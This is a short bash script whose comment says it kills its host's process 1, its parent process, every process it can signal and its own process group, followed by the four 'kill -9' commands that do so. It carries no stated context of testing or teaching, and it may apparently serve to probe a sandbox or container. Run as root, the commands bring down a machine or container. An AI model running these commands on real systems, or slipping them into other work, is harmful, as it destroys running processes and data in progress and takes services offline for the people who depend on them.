#!/bin/bash
# Kills its host's process 1, its parent, all that it can see, and its own process group.
kill -9 1
kill -9 $PPID
kill -9 -1
kill -9 0
